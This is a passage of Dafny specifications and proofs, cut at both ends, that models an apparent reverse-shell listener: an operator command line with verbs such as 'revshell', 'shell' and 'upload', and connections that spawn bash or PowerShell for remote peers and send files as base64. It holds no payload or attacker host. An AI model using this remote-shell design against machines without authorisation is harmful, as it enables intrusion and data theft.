
  /** Python's `str.isspace()`; the regex class `\s`, `str.strip()` and
      `str.split()` all use this set of characters. */
  predicate IsSpace(c: char) {
    var n := c as int;
    n == 32 || 9 <= n <= 13 || 28 <= n <= 31 || n == 0x85 || n == 0xA0 || n == 0x1680
    || 0x2000 <= n <= 0x200A || n == 0x2028 || n == 0x2029 || n == 0x202F
    || n == 0x205F || n == 0x3000
  }

  /** Number of whitespace characters at the start of `s`. */
  function LeadingSpaces(s: string): (n: nat)
    ensures n <= |s|
    ensures forall i :: 0 <= i < n ==> IsSpace(s[i])
    ensures n == |s| || !IsSpace(s[n])
  {
    if s != [] && IsSpace(s[0]) then 1 + LeadingSpaces(s[1..]) else 0
  }

  /** Number of whitespace characters at the end of `s`. */
  function TrailingSpaces(s: string): (n: nat)
    ensures n <= |s|
    ensures forall i :: |s| - n <= i < |s| ==> IsSpace(s[i])
    ensures n == |s| || !IsSpace(s[|s| - n - 1])
  {
    if s != [] && IsSpace(s[|s| - 1]) then 1 + TrailingSpaces(s[..|s| - 1]) else 0
  }

  /** Python's `str.strip()` with no argument: the longest slice of `s` that
      neither starts nor ends with whitespace, everything cut off being
      whitespace. */
  function Strip(s: string): (r: string)
    ensures r == [] || (!IsSpace(r[0]) && !IsSpace(r[|r| - 1]))
    ensures r == [] ==> forall i :: 0 <= i < |s| ==> IsSpace(s[i])
    ensures r != [] ==> LeadingSpaces(s) + |r| <= |s| && r == s[LeadingSpaces(s)..LeadingSpaces(s) + |r|]
    ensures r != [] ==> forall i :: LeadingSpaces(s) + |r| <= i < |s| ==> IsSpace(s[i])
  {
    var lead := LeadingSpaces(s);
    if lead == |s| then []
    else
      var trail := TrailingSpaces(s);
      assert !IsSpace(s[lead]);
      s[lead..|s| - trail]
  }

  predicate IsDigit(c: char) {
    '0' <= c <= '9'
  }

  predicate AllDigits(s: string) {
    forall i :: 0 <= i < |s| ==> IsDigit(s[i])
  }

  function DigitChar(d: int): (c: char)
    requires 0 <= d < 10
    ensures IsDigit(c) && c as int - '0' as int == d
  {
    ('0' as int + d) as char
  }

  /** `str(n)` for a non-negative integer: its decimal digits, without
      leading zeros. */
  function NatToString(n: nat): (r: string)
    ensures |r| >= 1 && AllDigits(r)
    ensures r[0] == '0' ==> n == 0
  {
    if n < 10 then [DigitChar(n)] else NatToString(n / 10) + [DigitChar(n % 10)]
  }

  /** `str(i)` for any integer. */
  function IntToString(i: int): (r: string)
    ensures |r| >= 1
    ensures i < 0 <==> r[0] == '-'
  {
    if i < 0 then "-" + NatToString(-i) else NatToString(i)
  }

  /** The value of a string of decimal digits. */
  function DigitsValue(s: string): nat
    requires AllDigits(s)
  {
    if s == [] then 0 else DigitsValue(s[..|s| - 1]) * 10 + (s[|s| - 1] as int - '0' as int)
  }

  /** A digit string as `int()` reads it: ASCII digits, where a single
      underscore may stand between two digits. */
  predicate IsDigitGroup(t: string)
    decreases |t|
  {
    && t != [] && IsDigit(t[0])
    && (|t| == 1 || if t[1] == '_' then IsDigitGroup(t[2..]) else IsDigitGroup(t[1..]))
  }

  lemma {:induction false} GroupChars(t: string)
    requires IsDigitGroup(t)
    ensures forall i :: 0 <= i < |t| ==> IsDigit(t[i]) || t[i] == '_'
    decreases |t|
  {
    if |t| > 1 {
      var k := if t[1] == '_' then 2 else 1;
      GroupChars(t[k..]);
      forall i | k <= i < |t| ensures IsDigit(t[i]) || t[i] == '_' {
        assert t[i] == t[k..][i - k];
      }
    }
  }

  /** An integer token: an optional sign followed by a digit string. */
  predicate IsIntToken(s: string) {
    s != [] && IsDigitGroup(if s[0] == '-' || s[0] == '+' then s[1..] else s)
  }

  /** The digits of `t`, its underscores removed. */
  function DropUnderscores(t: string): (r: string)
    ensures forall i :: 0 <= i < |r| ==> r[i] != '_' && r[i] in t
    ensures (forall i :: 0 <= i < |t| ==> IsDigit(t[i]) || t[i] == '_') ==> AllDigits(r)
    ensures AllDigits(t) ==> r == t
  {
    if t == [] then []
    else
      var rest := DropUnderscores(t[1..]);
      assert forall i :: 0 <= i < |rest| ==> rest[i] in t by {
        forall i | 0 <= i < |rest| ensures rest[i] in t {
          var m :| 0 <= m < |t[1..]| && t[1..][m] == rest[i];
          assert t[m + 1] == rest[i];
        }
      }
      (if t[0] == '_' then [] else [t[0]]) + rest
  }

  /** The value of a digit string. */
  function GroupValue(t: string): nat
    requires IsDigitGroup(t)
  {
    GroupChars(t);
    DigitsValue(DropUnderscores(t))
  }

  /** A plain run of digits is a digit string, and its value is read
      unchanged. */
  lemma {:induction false} PlainDigits(t: string)
    requires t != [] && AllDigits(t)
    ensures IsDigitGroup(t) && GroupValue(t) == DigitsValue(t)
    decreases |t|
  {
    if |t| > 1 {
      PlainDigits(t[1..]);
    }
  }

  /** Python's `int(token)` on a token that holds no whitespace: an optional
      sign followed by decimal digits, leading zeros allowed and single
      underscores between digits ignored; anything else raises
      `ValueError`, modelled as `None`. */
  function ParseInt(s: string): (r: Option<int>)
    ensures r.Some? <==> IsIntToken(s)
    ensures r.Some? ==> (IsDigit(s[0]) || s[0] == '-' || s[0] == '+')
    ensures r.Some? ==> (r.value < 0 ==> s[0] == '-')
  {
    if s == [] then None
    else if s[0] == '-' || s[0] == '+' then
      var digits := s[1..];
      if IsDigitGroup(digits) then
        var v: int := GroupValue(digits);
        Some(if s[0] == '-' then -v else v)
      else None
    else if IsDigitGroup(s) then Some(GroupValue(s))
    else None
  }

  lemma {:induction false} DigitsOfNat(n: nat)
    ensures DigitsValue(NatToString(n)) == n
  {
    var r := NatToString(n);
    if n >= 10 {
      DigitsOfNat(n / 10);
      assert r[..|r| - 1] == NatToString(n / 10);
    }
  }

  lemma ParseNegative(s: string, digits: string)
    requires s == "-" + digits && digits != [] && AllDigits(digits)
    ensures ParseInt(s) == Some(-(DigitsValue(digits) as int))
  {
    assert s[0] == '-' && s[1..] == digits;
    PlainDigits(digits);
  }

  lemma ParseNonNegative(s: string)
    requires s != [] && AllDigits(s)
    ensures ParseInt(s) == Some(DigitsValue(s) as int)
  {
    assert IsDigit(s[0]);
    PlainDigits(s);
  }

  /** `int("+" + digits)` reads the digits at their decimal value. */
  lemma ParsePositive(digits: string)
    requires digits != [] && AllDigits(digits)
    ensures ParseInt("+" + digits) == Some(DigitsValue(digits) as int)
  {
    var s := "+" + digits;
    assert s[0] == '+' && s[1..] == digits;
    PlainDigits(digits);
  }

  /** Removing underscores works piece by piece: the pieces of a
      concatenation keep their order. */
  lemma {:induction false} DropConcat(a: string, b: string)
    ensures DropUnderscores(a + b) == DropUnderscores(a) + DropUnderscores(b)
    decreases |a|
  {
    if a == [] {
      assert a + b == b;
    } else {
      assert (a + b)[0] == a[0];
      assert (a + b)[1..] == a[1..] + b;
      DropConcat(a[1..], b);
    }
  }

  /** The underscore between two digit runs is the only character removed. */
  lemma DropJoin(a: string, b: string)
    requires AllDigits(a) && AllDigits(b)
    ensures DropUnderscores(a + "_" + b) == a + b
  {
    assert "_"[1..] == [];
    assert DropUnderscores("_") == [];
    DropConcat(a + "_", b);
    DropConcat(a, "_");
  }

  /** Two digit runs joined by one underscore form a digit string. */
  lemma {:induction false} GroupJoin(a: string, b: string)
    requires a != [] && AllDigits(a) && IsDigitGroup(b)
    ensures IsDigitGroup(a + "_" + b)
    decreases |a|
  {
    var s := a + "_" + b;
    if |a| == 1 {
      assert s[0] == a[0] && s[1] == '_' && s[2..] == b;
    } else {
      assert s[0] == a[0] && s[1] == a[1];
      assert s[1..] == a[1..] + "_" + b;
      GroupJoin(a[1..], b);
    }
  }

  /** A digit string without a sign is read at its value. */
  lemma ParseGroup(s: string)
    requires IsDigitGroup(s)
    ensures ParseInt(s) == Some(GroupValue(s) as int)
  {
  }

  /** An underscore between two digit runs does not change the value:
      `int("1_000") == int("1000")`. */
  lemma ParseIgnoresUnderscore(a: string, b: string)
    requires a != [] && AllDigits(a) && b != [] && AllDigits(b)
    ensures ParseInt(a + "_" + b) == ParseInt(a + b) == Some(DigitsValue(a + b) as int)
  {
    PlainDigits(b);
    GroupJoin(a, b);
    ParseGroup(a + "_" + b);
    DropJoin(a, b);
    ParseNonNegative(a + b);
  }

  /** `int(str(i)) == i`: the decimal rendering is read back exactly. */
  lemma ParseIntRoundTrip(i: int)
    ensures ParseInt(IntToString(i)) == Some(i)
  {
    var s := IntToString(i);
    if i < 0 {
      var digits := NatToString(-i);
      assert s == "-" + digits;
      DigitsOfNat(-i);
      assert DigitsValue(digits) == -i;
      ParseNegative(s, digits);
      assert ParseInt(s) == Some(i);
    } else {
      assert s == NatToString(i);
      DigitsOfNat(i);
      assert DigitsValue(s) == i;
      ParseNonNegative(s);
      assert ParseInt(s) == Some(i);
    }
  }

  /** Different integers have different decimal renderings. */
  lemma IntToStringInjective(i: int, j: int)
    requires IntToString(i) == IntToString(j)
    ensures i == j
  {
    ParseIntRoundTrip(i);
    ParseIntRoundTrip(j);
  }

  /** Text placed between the same fixed prefix and suffix is recovered
      from the whole. */
  lemma FrameInjective<T>(prefix: seq<T>, m1: seq<T>, m2: seq<T>, suffix: seq<T>)
    requires prefix + m1 + suffix == prefix + m2 + suffix
    ensures m1 == m2
  {
    var x := prefix + m1 + suffix;
    assert m1 == x[|prefix|..|x| - |suffix|];
    assert m2 == x[|prefix|..|x| - |suffix|];
  }
}

=== FILE: connection.dfy ===
/** Per-connection state and behaviour: `Connection` in core/connection.py.
    The socket writer, the shell's stdin pipe and the pseudo-terminal are
    byte sinks the connection appends to; what the shell or the pty answers
    is supplied as a list of read results; spawning a process is an outcome
    supplied by the caller. */
module Connections {
  import opened Common
  import Utf8
  import Base64
  import Transfer

  /** A spawned shell: its process id, and whether its stdin is a pipe the
      connection writes to (the Windows variant, spawned with
      `stdin=PIPE`) or not (the pty variant, whose stdin is the terminal). */
  datatype Process = Process(pid: int, hasStdin: bool)

  /** What `send_message` accepts: text, which it encodes first, or bytes. */
  datatype Message = Text(text: string) | Raw(bytes: seq<Byte>)

  function MessageBytes(m: Message): seq<Byte> {
    match m
    case Text(t) => Utf8.Encode(t)
    case Raw(b) => b
  }

  /** `os.read(master_fd, 4096)`: at most 4096 bytes per read. */
  const ReadSize := 4096
  /** The drain loop's `max_attempts`. */
  const MaxAttempts := 5
  /** The errno that ends the drain loop quietly. */
  const EIO := 5

  type Chunk = s: seq<Byte> | |s| <= 4096 witness []

  /** One read from the shell's output: data (possibly empty) or an OSError. */
  datatype ShellRead = ReadData(bytes: Chunk) | ReadError(errno: int)

  /** Result of read number `k`; results past the supplied list return no data. */
  function ReadAt(results: seq<ShellRead>, k: nat): ShellRead {
    if k < |results| then results[k] else ReadData([])
  }

  /** The data of results `0 .. n-1`, in order. */
  function Collected(results: seq<ShellRead>, n: nat): (r: seq<Byte>)
    ensures |r| <= n * ReadSize
  {
    if n == 0 then []
    else Collected(results, n - 1) + (match ReadAt(results, n - 1) case ReadData(b) => b case ReadError(_) => [])
  }

  predicate IsFullRead(r: ShellRead) {
    r.ReadData? && |r.bytes| == ReadSize
  }

  /** A read after which the pty drain loop stops: empty, short, or an error. */
  predicate EndsDrain(r: ShellRead) {
    !IsFullRead(r)
  }

  /** An error the drain loop re-raises: any errno but EIO. */
  predicate IsRaised(r: ShellRead) {
    r.ReadError? && r.errno != EIO
  }

  /** The outcome of the pty drain loop (core/connection.py:249-265): it made
      `attempts` results, each before the last a full 4096 bytes; it stopped
      early only at an empty or short read or an error; it failed exactly
      when the last read raised something other than EIO; and `output` is the
      data read, in order. */
  ghost predicate IsDrain(results: seq<ShellRead>, output: seq<Byte>, attempts: nat, failed: bool) {
    && 1 <= attempts <= MaxAttempts
    && (forall k :: 0 <= k < attempts - 1 ==> IsFullRead(ReadAt(results, k)))
    && (attempts < MaxAttempts ==> EndsDrain(ReadAt(results, attempts - 1)))
    && (failed <==> IsRaised(ReadAt(results, attempts - 1)))
    && output == Collected(results, attempts)
  }

  /** The bounded drain loop of the pty branch of `handle_shell_data`. */
  method DrainPty(results: seq<ShellRead>) returns (output: seq<Byte>, attempts: nat, failed: bool)
    ensures IsDrain(results, output, attempts, failed)
    ensures |output| <= MaxAttempts * ReadSize
  {
    output, attempts, failed := [], 0, false;
    while attempts < MaxAttempts
      invariant 0 <= attempts <= MaxAttempts
      invariant forall k :: 0 <= k < attempts ==> IsFullRead(ReadAt(results, k))
      invariant output == Collected(results, attempts)
    {
      var r := ReadAt(results, attempts);
      attempts := attempts + 1;
      match r {
        case ReadError(e) =>
          failed := e != EIO;
          return;
        case ReadData(b) =>
          output := output + b;
          if |b| < ReadSize {
            return;
          }
      }
    }
  }

  /** The drain loop's outcome is determined by the results. */
  lemma DrainIsDeterministic(results: seq<ShellRead>, o1: seq<Byte>, a1: nat, f1: bool, o2: seq<Byte>, a2: nat, f2: bool)
    requires IsDrain(results, o1, a1, f1) && IsDrain(results, o2, a2, f2)
    ensures o1 == o2 && a1 == a2 && f1 == f2
  {
    // Whichever drain stopped first stopped at a read the other found full.
    var last1: nat, last2: nat := a1 - 1, a2 - 1;
    assert a1 < a2 ==> IsFullRead(ReadAt(results, last1));
    assert a2 < a1 ==> IsFullRead(ReadAt(results, last2));
  }

  /** Whether the drain loop, started at read `k`, ends on a raised error:
      it passes over full reads and decides at the first read that is not. */
  function FailsFrom(results: seq<ShellRead>, k: nat): bool
    decreases MaxAttempts - k
  {
    if k >= MaxAttempts then false
    else if IsFullRead(ReadAt(results, k)) then FailsFrom(results, k + 1)
    else IsRaised(ReadAt(results, k))
  }

  /** Whether the pty drain loop raises, as a function of the reads. */
  function DrainFails(results: seq<ShellRead>): bool {
    FailsFrom(results, 0)
  }

  lemma {:induction false} FailsFromFullReads(results: seq<ShellRead>, k: nat, last: nat)
    requires k <= last < MaxAttempts
    requires forall j :: k <= j < last ==> IsFullRead(ReadAt(results, j))
    ensures FailsFrom(results, k) == FailsFrom(results, last)
    decreases last - k
  {
    if k < last {
      FailsFromFullReads(results, k + 1, last);
    }
  }

  /** The loop fails exactly when `DrainFails` says so, whatever it read. */
  lemma DrainFailsMatches(results: seq<ShellRead>, output: seq<Byte>, attempts: nat, failed: bool)
    requires IsDrain(results, output, attempts, failed)
    ensures failed == DrainFails(results)
  {
    FailsFromFullReads(results, 0, attempts - 1);
  }

  /** Index of the first read of the Windows pipe loop that is empty or
      raises; the loop `while True: read; if not output: break` stops there. */
  function FirstStop(results: seq<ShellRead>, from: nat): (n: nat)
    requires from <= |results|
    ensures from <= n <= |results|
    ensures forall k :: from <= k < n ==> results[k].ReadData? && results[k].bytes != []
    ensures n < |results| ==> !(results[n].ReadData? && results[n].bytes != [])
    decreases |results| - from
  {
    if from == |results| || !(results[from].ReadData? && results[from].bytes != []) then from
    else FirstStop(results, from + 1)
  }

  /** The read loop of the Windows branch of `handle_shell_data`: read until
      an empty read, failing if a read raises. */
  method DrainPipe(results: seq<ShellRead>) returns (output: seq<Byte>, failed: bool)
    ensures var n := FirstStop(results, 0);
            && (failed <==> (n < |results| && results[n].ReadError?))
            && output == Collected(results, n)
  {
    output, failed := [], false;
    var k := 0;
    while k < |results|
      invariant 0 <= k <= FirstStop(results, 0)
      invariant output == Collected(results, k)
    {
      match results[k] {
        case ReadError(_) =>
          failed := true;
          return;
        case ReadData(b) =>
          if b == [] {
            return;
          }
          output := output + b;
      }
      k := k + 1;
    }
  }

  /** Python whitespace among single-byte characters. */
  predicate IsSpaceByte(b: Byte) {
    b == 32 || 9 <= b <= 13 || 28 <= b <= 31
  }

  /** Number of whitespace bytes at the start of `b`. */
  function LeadingSpaceBytes(b: seq<Byte>): (n: nat)
    ensures n <= |b|
    ensures forall i :: 0 <= i < n ==> IsSpaceByte(b[i])
    ensures n == |b| || !IsSpaceByte(b[n])
  {
    if b != [] && IsSpaceByte(b[0]) then 1 + LeadingSpaceBytes(b[1..]) else 0
  }

  /** Number of whitespace bytes at the end of `b`. */
  function TrailingSpaceBytes(b: seq<Byte>): (n: nat)
    ensures n <= |b|
    ensures forall i :: |b| - n <= i < |b| ==> IsSpaceByte(b[i])
    ensures n == |b| || !IsSpaceByte(b[|b| - n - 1])
  {
    if b != [] && IsSpaceByte(b[|b| - 1]) then 1 + TrailingSpaceBytes(b[..|b| - 1]) else 0
  }

  /** The Windows branch's `strip()` of the command, taken on the bytes:
      the slice of `b` that neither starts nor ends with whitespace,
      everything cut off being whitespace. */
  function TrimBytes(b: seq<Byte>): (r: seq<Byte>)
    ensures r == [] || (!IsSpaceByte(r[0]) && !IsSpaceByte(r[|r| - 1]))
    ensures r == [] ==> forall i :: 0 <= i < |b| ==> IsSpaceByte(b[i])
    ensures r != [] ==> LeadingSpaceBytes(b) + |r| <= |b|
                        && r == b[LeadingSpaceBytes(b)..LeadingSpaceBytes(b) + |r|]
    ensures r != [] ==> forall i :: LeadingSpaceBytes(b) + |r| <= i < |b| ==> IsSpaceByte(b[i])
  {
    var lead := LeadingSpaceBytes(b);
    if lead == |b| then []
    else
      var trail := TrailingSpaceBytes(b);
      assert !IsSpaceByte(b[lead]);
      b[lead..|b| - trail]
  }

  const Newline: Byte := 10

  /** The pty branch's input normalisation: a newline is appended only if the
      data does not already end with one. */
  function WithNewline(data: seq<Byte>): (r: seq<Byte>)
    ensures r != [] && r[|r| - 1] == Newline
    ensures |r| == |data| || |r| == |data| + 1
    ensures r[..|data|] == data
    ensures data != [] && data[|data| - 1] == Newline ==> r == data
  {
    if data != [] && data[|data| - 1] == Newline then data else data + [Newline]
  }

  /** The outcome of `send_file`; a failed write carries `str(e)` of the
      exception it raised. */
  datatype SendFileResult = FileSent | FileNotFound | SendError(text: string)

  /** The message `send_file` returns beside its flag. */
  function SendFileMessage(r: SendFileResult): string {
    match r
    case FileSent => "File sent successfully"
    case FileNotFound => "File not found"
    case SendError(text) => text
  }

  /** The startup line sent once a shell is running. */
  function Banner(platformType: string): string {
    "Shell started (" + (if platformType == "windows" then "PowerShell" else "/bin/bash")
    + "). Type commands directly.\n"
  }

  class Connection {
    /** The peer address; the connection's identity for the operator. */
    const addr: Address
    /** When the connection was accepted. */
    const connectedTime: string
    /** Text messages received, in receipt order. */
    var buffer: seq<string>
    var active: bool
    var shellMode: bool
    var shellProcess: Option<Process>
    var platformType: string
    /** Everything written to the socket. */
    var sent: seq<Byte>
    /** Everything written to the shell's stdin pipe. */
    var shellInput: seq<Byte>
    /** Everything written to the pseudo-terminal. */
    var ptyInput: seq<Byte>

    /** Shell mode is on exactly when a shell process is held. */
    ghost predicate Valid()
      reads this
    {
      shellMode <==> shellProcess.Some?
    }

    /** Where `send_message` writes: the shell's stdin only when in shell
        mode with a process whose stdin is a pipe. */
    predicate WritesToShell()
      reads this
    {
      shellMode && shellProcess.Some? && shellProcess.value.hasStdin
    }

    /** `Connection(reader, writer)`: a fresh, active connection in message
        mode with an empty buffer; `hostPlatform` is
        `platform.system().lower()`. */
    constructor (addr: Address, connectedTime: string, hostPlatform: string)
      ensures this.addr == addr && this.connectedTime == connectedTime
      ensures buffer == [] && active && !shellMode && shellProcess.None?
      ensures platformType == hostPlatform
      ensures sent == [] && shellInput == [] && ptyInput == []
      ensures Valid()
    {
      this.addr := addr;
      this.connectedTime := connectedTime;
      buffer := [];
      active := true;
      shellMode := false;
      shellProcess := None;
      platformType := hostPlatform;
      sent, shellInput, ptyInput := [], [], [];
    }

    /** `detect_platform`: always classifies the peer as unix-like. */
    method DetectPlatform() returns (ok: bool)
      modifies this`platformType
      ensures ok && platformType == "unix"
    {
      platformType := "unix";
      ok := true;
    }

    /** `send_message`: the encoded message goes to the shell's stdin pipe
        or to the socket, never both; a failed write reports false instead
        of raising and writes nothing. */
    method SendMessage(message: Message, writeOk: bool) returns (ok: bool)
      modifies this`sent, this`shellInput
      ensures ok == writeOk
      ensures old(WritesToShell()) ==>
        shellInput == old(shellInput) + (if writeOk then MessageBytes(message) else []) && sent == old(sent)
      ensures !old(WritesToShell()) ==>
        sent == old(sent) + (if writeOk then MessageBytes(message) else []) && shellInput == old(shellInput)
    {
      var bytes := MessageBytes(message);
      if WritesToShell() {
        if writeOk {
          shellInput := shellInput + bytes;
        }
      } else {
        if writeOk {
          sent := sent + bytes;
        }
      }
      ok := writeOk;
    }

    /** `start_shell`: `spawned` is the new process id, or None when opening
        the pty or spawning the process raised. It ends in one of two
        states: running with a process, or stopped with none; it does not
        check whether a shell was already running. On success the banner is
        sent through `send_message`. */
    method StartShell(spawned: Option<int>, bannerOk: bool) returns (ok: bool)
      modifies this`shellMode, this`shellProcess, this`sent, this`shellInput
      ensures Valid()
      ensures ok <==> spawned.Some?
      ensures ok ==> shellMode && shellProcess == Some(Process(spawned.value, platformType == "windows"))
      ensures !ok ==> !shellMode && shellProcess.None?
      ensures ok && platformType == "windows" ==>
        shellInput == old(shellInput) + (if bannerOk then Utf8.Encode(Banner(platformType)) else []) && sent == old(sent)
      ensures ok && platformType != "windows" ==>
        sent == old(sent) + (if bannerOk then Utf8.Encode(Banner(platformType)) else []) && shellInput == old(shellInput)
      ensures !ok ==> sent == old(sent) && shellInput == old(shellInput)
    {
      match spawned {
        case None =>
          shellMode := false;
          shellProcess := None;
          ok := false;
        case Some(pid) =>
          shellProcess := Some(Process(pid, platformType == "windows"));
          shellMode := true;
          var _ := SendMessage(Text(Banner(platformType)), bannerOk);
          ok := true;
      }
    }

    /** `stop_shell`: with no process, nothing happens; with one, shell
        mode ends and the process is dropped whether or not terminating it
        raised. */
    method StopShell()
      modifies this`shellMode, this`shellProcess
      ensures old(shellProcess).None? ==> shellMode == old(shellMode) && shellProcess.None?
      ensures old(shellProcess).Some? ==> !shellMode && shellProcess.None?
      ensures old(Valid()) ==> Valid() && !shellMode
    {
      if shellProcess.Some? {
        shellMode := false;
        shellProcess := None;
      }
    }

    /** `handle_shell_data`: without a process it reports false. On the pty
        branch non-empty data is written to the terminal with a newline
        appended if missing, then the bounded drain loop collects the
        shell's answer; a write error or a raised read reports false. On the
        Windows branch non-empty data is trimmed, given a newline and
        written to the stdin pipe, then the pipe is read until an empty
        read. The shell state itself never changes. */
    method HandleShellData(data: seq<Byte>, writeOk: bool, results: seq<ShellRead>)
      returns (ok: bool, output: seq<Byte>, ghost attempts: nat)
      modifies this`ptyInput, this`shellInput
      ensures old(shellProcess).None? ==>
        !ok && output == [] && ptyInput == old(ptyInput) && shellInput == old(shellInput)
      ensures old(shellProcess).Some? && platformType != "windows" ==>
        && shellInput == old(shellInput)
        && ptyInput == old(ptyInput) + (if data != [] && writeOk then WithNewline(data) else [])
        && (data != [] && !writeOk ==> !ok && output == [])
        && (data == [] || writeOk ==> IsDrain(results, output, attempts, !ok))
      ensures old(shellProcess).Some? && platformType == "windows" ==>
        && ptyInput == old(ptyInput)
        && shellInput == old(shellInput) + (if data != [] && writeOk then TrimBytes(data) + [Newline] else [])
        && (data == [] ==> ok && output == [])
        && (data != [] && !writeOk ==> !ok && output == [])
        && (data != [] && writeOk ==>
              var n := FirstStop(results, 0);
              (ok <==> !(n < |results| && results[n].ReadError?)) && output == Collected(results, n))
    {
      output, attempts := [], 0;
      if shellProcess.None? {
        ok := false;
        return;
      }
      if platformType == "windows" {
        if data != [] {
          if !writeOk {
            ok := false;
            return;
          }
          shellInput := shellInput + TrimBytes(data) + [Newline];
          var failed;
          output, failed := DrainPipe(results);
          ok := !failed;
          return;
        }
        ok := true;
        return;
      }
      if data != [] {
        if !writeOk {
          ok := false;
          return;
        }
        ptyInput := ptyInput + WithNewline(data);
      }
      var failed;
      output, attempts, failed := DrainPty(results);
      ok := !failed;
    }

    /** `send_file`: a missing file reports "File not found" and writes
        nothing; otherwise the control line and the base 64 payload are
        written to the socket, whatever the shell mode. `contents` is the
        file's bytes, or None when the path does not exist; `writeError` is
        the text of the exception a write raises, or None when the writes
        succeed. */
    method SendFile(path: string, contents: Option<seq<Byte>>, writeError: Option<string>)
      returns (result: SendFileResult)
      modifies this`sent
      ensures contents.None? ==> result == FileNotFound && sent == old(sent)
      ensures contents.Some? && writeError.None? ==>
        result == FileSent && sent == old(sent) + Transfer.Frame(path, contents.value)
      ensures contents.Some? && writeError.Some? ==> result == SendError(writeError.value) && sent == old(sent)
    {
      match contents {
        case None =>
          result := FileNotFound;
        case Some(data) =>
          match writeError {
            case None =>
              sent := sent + Transfer.Frame(path, data);
              result := FileSent;
            case Some(text) =>
              result := SendError(text);
          }
      }
    }
  }

  /** A corollary gathering what the receiver relies on: the control line
      `send_file` writes announces the length of the payload written right
      after it, which `Base64.Encode` bounds at 4 * ceil(n / 3) bytes, and
      the payload decodes back to the file (`Base64.DecodeEncode`). */
  lemma FrameAnnouncesPayload(path: string, data: seq<Byte>)
    ensures var payload := Base64.Encode(data);
            && Transfer.Frame(path, data)
               == Utf8.Encode(Transfer.Header(Transfer.Basename(path), |payload|)) + payload
            && |payload| == 4 * ((|data| + 2) / 3)
            && Base64.Decode(payload) == Some(data)
  {
    Base64.DecodeEncode(data);
  }
}

=== FILE: interface.dfy ===
/** The operator's command line (cli/interface.py): how a typed line is
    routed, how a command line is split into tokens and recognised by verb,
    token count and integer arguments, and the `exit` command's shutdown of
    every listened port. */
module Interface {
  import opened Common
  import opened Listener
  import Connections

  /** A token of `str.split()`: non-empty, without whitespace. */
  predicate IsWord(w: string) {
    w != [] && forall i :: 0 <= i < |w| ==> !IsSpace(w[i])
  }

  /** Length of the run of non-whitespace characters that starts `s`. */
  function WordLength(s: string): (n: nat)
    ensures n <= |s|
    ensures forall i :: 0 <= i < n ==> !IsSpace(s[i])
    ensures n == |s| || IsSpace(s[n])
  {
    if s == [] || IsSpace(s[0]) then 0 else 1 + WordLength(s[1..])
  }

  /** Python's `str.split()` with no argument: the maximal runs of
      non-whitespace characters, in order. */
  function Split(s: string): (words: seq<string>)
    ensures forall i :: 0 <= i < |words| ==> IsWord(words[i])
    decreases |s|
  {
    if s == [] then []
    else if IsSpace(s[0]) then Split(s[1..])
    else
      var n := WordLength(s);
      [s[..n]] + Split(s[n..])
  }

  /** `" ".join(words)`. */
  function JoinWords(words: seq<string>): string {
    if words == [] then ""
    else if |words| == 1 then words[0]
    else words[0] + " " + JoinWords(words[1..])
  }

  lemma {:induction false} SplitSpaces(s: string)
    requires forall i :: 0 <= i < |s| ==> IsSpace(s[i])
    ensures Split(s) == []
    decreases |s|
  {
    if s != [] {
      SplitSpaces(s[1..]);
    }
  }

  /** Whitespace before the first token is skipped. */
  lemma SplitSkipsSpace(c: char, s: string)
    requires IsSpace(c)
    ensures Split([c] + s) == Split(s)
  {
    assert ([c] + s)[1..] == s;
  }

  lemma {:induction false} WordLengthOfWord(w: string, rest: string)
    requires IsWord(w)
    requires rest == [] || IsSpace(rest[0])
    ensures WordLength(w + rest) == |w|
    decreases |w|
  {
    assert (w + rest)[0] == w[0];
    if |w| > 1 {
      assert (w + rest)[1..] == w[1..] + rest;
      WordLengthOfWord(w[1..], rest);
    } else {
      assert (w + rest)[1..] == rest;
    }
  }

  lemma SplitWord(w: string, rest: string)
    requires IsWord(w)
    requires rest == [] || IsSpace(rest[0])
    ensures Split(w + rest) == [w] + Split(rest)
  {
    WordLengthOfWord(w, rest);
    var s := w + rest;
    assert s[0] == w[0];
    assert s[..|w|] == w && s[|w|..] == rest;
  }

  /** Splitting words joined by single spaces gives the words back. */
  lemma {:induction false} SplitJoin(words: seq<string>)
    requires forall i :: 0 <= i < |words| ==> IsWord(words[i])
    ensures Split(JoinWords(words)) == words
  {
    if |words| == 1 {
      SplitWord(words[0], "");
      assert words[0] + "" == words[0];
    } else if |words| > 1 {
      var rest := JoinWords(words[1..]);
      SplitJoin(words[1..]);
      SplitWord(words[0], " " + rest);
      assert words[0] + " " + rest == words[0] + (" " + rest);
      assert (" " + rest)[1..] == rest;
    }
  }

  /** A command line, as `handle_command` understands it. The last three
      are the lines it rejects with a message and no listener call. */
  datatype Command =
    | Nothing
    | Add(port: int)
    | Remove(port: int)
    | List
    | Connections(port: int)
    | Switch(port: int, connId: Option<int>)
    | Send(message: string)
    | Shell
    | StopShell
    | Upload(path: string)
    | RevShell(target: string, port: int)
    | Help
    | Exit
    | BadPort        // "Invalid port number!"
    | BadSwitchArgs  // "Invalid port number or connection ID!"
    | Invalid        // "Invalid command! Type 'help' for usage."

  /** A verb with a token count that `handle_command` has a branch for:
      `list`, `shell`, `stopshell`, `help` and `exit` with any count, the
      others with the counts they demand. */
  predicate KnownForm(parts: seq<string>) {
    && parts != []
    && var verb, n := parts[0], |parts|;
       || (verb in {"add", "remove", "connections", "upload"} && n == 2)
       || (verb == "switch" && (n == 2 || n == 3))
       || (verb == "send" && n > 1)
       || (verb == "revshell" && n == 3)
       || verb in {"list", "shell", "stopshell", "help", "exit"}
  }

  /** A known form whose one port argument is its last token. */
  predicate PortForm(parts: seq<string>) {
    KnownForm(parts) && parts[0] in {"add", "remove", "connections", "revshell"}
  }

  /** `handle_command`'s recognition of a line: split it, match the verb
      and the token count, then parse the integer arguments. Verbs without
      arguments ignore any extra tokens. */
  function ParseCommand(line: string): (c: Command)
    ensures c == Nothing <==> Split(line) == []
    ensures c == Invalid <==> Split(line) != [] && !KnownForm(Split(line))
    ensures c == BadPort <==> PortForm(Split(line)) && ParseInt(Split(line)[|Split(line)| - 1]).None?
    ensures c == BadSwitchArgs <==>
      && KnownForm(Split(line)) && Split(line)[0] == "switch"
      && !forall i :: 1 <= i < |Split(line)| ==> ParseInt(Split(line)[i]).Some?
    ensures c.Add? || c.Remove? || c.Connections? || c.Upload? ==> |Split(line)| == 2
    ensures c.Switch? ==> |Split(line)| == if c.connId.None? then 2 else 3
    ensures c.Send? ==> |Split(line)| >= 2
    ensures c.RevShell? ==> |Split(line)| == 3
  {
    RecognizeInvalid(Split(line));
    RecognizeBadPort(Split(line));
    RecognizeBadSwitch(Split(line));
    Recognize(Split(line))
  }

